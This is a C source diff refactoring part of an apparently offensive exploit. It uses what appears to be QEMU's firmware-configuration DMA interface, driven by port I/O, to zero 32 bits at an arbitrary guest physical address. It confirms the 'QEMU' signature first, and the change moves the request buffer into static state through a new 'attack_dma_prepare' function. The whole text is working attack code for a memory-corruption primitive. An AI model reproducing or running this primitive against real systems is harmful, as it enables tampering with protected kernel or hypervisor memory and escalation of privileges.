@@ -20,14 +20,22 @@ struct request {
 	uint64_t address;
 };
 
+static volatile struct request *request;
+static uint64_t request_pa;
+
+void attack_dma_prepare(void)
+{
+	request = attack_pages(BW_PAGE_SIZE);
+	request_pa = attack_pfn((const void *)request) * BW_PAGE_SIZE;
+}
+
 static void out32(uint16_t port, uint32_t value)
 {
 	__asm__ volatile("outl %0, %1" : : "a"(value), "d"(port) : "memory");
 }
 
 /* Item 0 is the signature; behind an item's end the device reads zeroes. */
-static void read_item(volatile struct request *request, uint64_t request_pa, uint32_t control,
-		      uint32_t length, uint64_t to_pa)
+static void read_item(uint32_t control, uint32_t length, uint64_t to_pa)
 {
 	request->length = __builtin_bswap32(length);
 	request->address = __builtin_bswap64(to_pa);
@@ -38,15 +46,12 @@ static void read_item(volatile struct request *request, uint64_t request_pa, uin
 
 bool attack_dma_zero32(uint64_t pa)
 {
-	volatile struct request *request = attack_pages(BW_PAGE_SIZE);
 	const volatile char *answer = (const volatile char *)(request + 1);
-	uint64_t request_pa = attack_pfn((const void *)request) * BW_PAGE_SIZE;
 
-	read_item(request, request_pa, CONTROL_SELECT | CONTROL_READ, SIGNATURE_BYTES,
-		  request_pa + sizeof(*request));
+	read_item(CONTROL_SELECT | CONTROL_READ, SIGNATURE_BYTES, request_pa + sizeof(*request));
 	if (memcmp((const char *)answer, "QEMU", SIGNATURE_BYTES) != 0) {
 		return false;
 	}
-	read_item(request, request_pa, CONTROL_READ, SIGNATURE_BYTES, pa);
+	read_item(CONTROL_READ, SIGNATURE_BYTES, pa);
 	return true;
 }
